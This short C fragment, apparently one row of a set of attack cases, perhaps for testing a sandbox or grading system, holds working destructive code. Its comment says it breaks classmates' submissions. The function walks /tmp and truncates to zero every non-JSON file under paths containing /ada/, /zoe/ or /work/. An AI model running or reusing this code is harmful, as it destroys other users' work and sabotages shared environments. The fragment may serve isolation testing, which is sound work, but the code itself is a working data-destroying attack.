// Row 7: breaks what the neighbours in the class handed in, and their programs.
// class
static int spoil(const char *path, const struct stat *status, int kind, struct FTW *place) {
  (void)status, (void)place;
  if (kind == FTW_F && (strstr(path, "/ada/") || strstr(path, "/zoe/") || strstr(path, "/work/")) &&
      !strstr(path, ".json"))
    truncate(path, 0);
  return 0;
}
ATTACK {
  if (nftw("/tmp", spoil, 16, FTW_PHYS) != 0)
    return;
}
